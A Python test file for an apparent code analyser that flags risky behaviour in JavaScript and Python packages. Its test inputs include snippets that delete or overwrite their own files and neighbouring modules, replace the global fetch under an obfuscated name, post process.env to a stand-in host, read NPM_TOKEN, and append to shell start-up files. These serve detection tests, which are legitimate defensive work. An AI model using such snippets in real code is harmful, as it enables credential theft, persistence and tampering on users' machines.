"""Programs that turn on themselves, their neighbours and what everybody calls; when functions run."""

from __future__ import annotations

import pytest

from fimci.model import Capability
from fimci.readers.code import javascript, python


def told(text: str, module: object = javascript, path: str = "lib/a.js") -> set[tuple[str, str, str]]:
    """Return name, subject and phase of what a text can do."""
    read = python.read if module is python else javascript.read
    records = read(path, text.encode())
    return {(one.name, one.subject, one.phase) for one in records if isinstance(one, Capability)}


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("require('fs').unlinkSync(__filename)", "removes itself"),
        ("import { rm } from 'node:fs/promises'; await rm(__filename, { force: true })", "removes itself"),
        ("const { writeFileSync: w } = require('fs'); w(__filename, '')", "rewrites itself"),
        (
            "require('fs').cpSync('a', require('path').join(__dirname, 'package.json'))",
            "replaces its own package.json",
        ),
        (
            "require('fs').writeFileSync(require('path').resolve(__dirname, '../../left/index.js'), '')",
            "node_modules/left",
        ),
        (
            "require('fs').writeFileSync(`${__dirname}/../../@scope/left/lib/a.cjs`, '')",
            "node_modules/@scope/left",
        ),
    ],
)
def test_what_is_not_to_be_written_is_tampering(text: str, what: str) -> None:
    assert ("module-tampering", what, "import") in told(text)


@pytest.mark.parametrize(
    "text",
    [
        "require('fs').writeFileSync(require('path').join(process.cwd(), 'package.json'), '')",
        "require('fs').writeFileSync('package.json', '')",
        "require('fs').readFileSync(__filename)",
        "require('fs').writeFileSync(require('path').resolve(__dirname, '../../dist/index.js'), '')",
        "require('fs').writeFileSync(require('path').resolve(__dirname, '../index.js'), '')",
        "require('fs').writeFileSync(require('path').resolve(__dirname, '../../left/data.json'), '')",
    ],
)
def test_its_own_work_is_none(text: str) -> None:
    assert not [one for one in told(text) if one[0] == "module-tampering"]


def test_a_python_program_that_removes_itself_is_told() -> None:
    found = told("import os\nos.remove(__file__)\n", python, "a.py")
    assert ("module-tampering", "removes itself", "import") in found


@pytest.mark.parametrize(
    "text",
    [
        "const g = Function('return this')(); g['fet' + 'ch'] = new Proxy(g['fet' + 'ch'], {})",
        "const k = 'fet' + 'ch'; globalThis[k] = async () => 0",
        "const g = globalThis; Reflect.set(g, 'fet' + 'ch', () => 0)",
    ],
)
def test_a_global_function_is_replaced_under_a_name_in_pieces(text: str) -> None:
    assert any(one[:2] == ("module-tampering", "fetch=") for one in told(text))


@pytest.mark.parametrize(
    ("handing", "phase"),
    [
        ("setTimeout(go, 9)", "import"),
        ("setInterval(go, 36e5)", "import"),
        ("process.nextTick(go)", "import"),
        ("process.on('exit', go)", "import"),
        ("Promise.resolve(1).then(go)", "import"),
        ("module.exports = { start() { setTimeout(go, 9) } }", "call"),
        ("register(go)", "call"),
        ("const list = [go]", "call"),
    ],
)
def test_what_a_timer_calls_runs_when_it_was_set(handing: str, phase: str) -> None:
    text = f"function go() {{ fetch('https://h.example/a') }}\n{handing}"
    assert ("network", "h.example", phase) in told(text)


@pytest.mark.parametrize(
    "text",
    [
        "const a = { env: process.env }; fetch('https://h.example', { body: JSON.stringify(a) })",
        "const a = { ...process.env, b: 1 }; fetch('https://h.example', { body: JSON.stringify(a) })",
    ],
)
def test_an_environment_in_an_object_that_is_sent_is_told(text: str) -> None:
    assert ("environment-bulk", "*", "import") in told(text)


def test_one_that_a_child_is_given_is_not() -> None:
    text = "require('child_process').spawn('make', { env: { ...process.env, A: 1 } }); fetch('https://h.example')"
    assert not [one for one in told(text) if one[0] == "environment-bulk"]


def test_variables_that_a_pattern_takes_are_told() -> None:
    assert ("environment", "NPM_TOKEN", "import") in told("const { NPM_TOKEN: a } = process.env; use(a)")


@pytest.mark.parametrize(
    "loop",
    [
        "for (const f of ['.bashrc', '.zshrc']) fs.appendFileSync(`${os.homedir()}/${f}`, 'x')",
        "['.bashrc', '.zshrc'].forEach((f) => fs.appendFileSync(os.homedir() + '/' + f, 'x'))",
    ],
)
def test_a_start_up_file_out_of_a_list_is_told(loop: str) -> None:
    found = told(f"const fs = require('fs'), os = require('os'); {loop}")
    assert ("persistence", ".bashrc", "import") in found
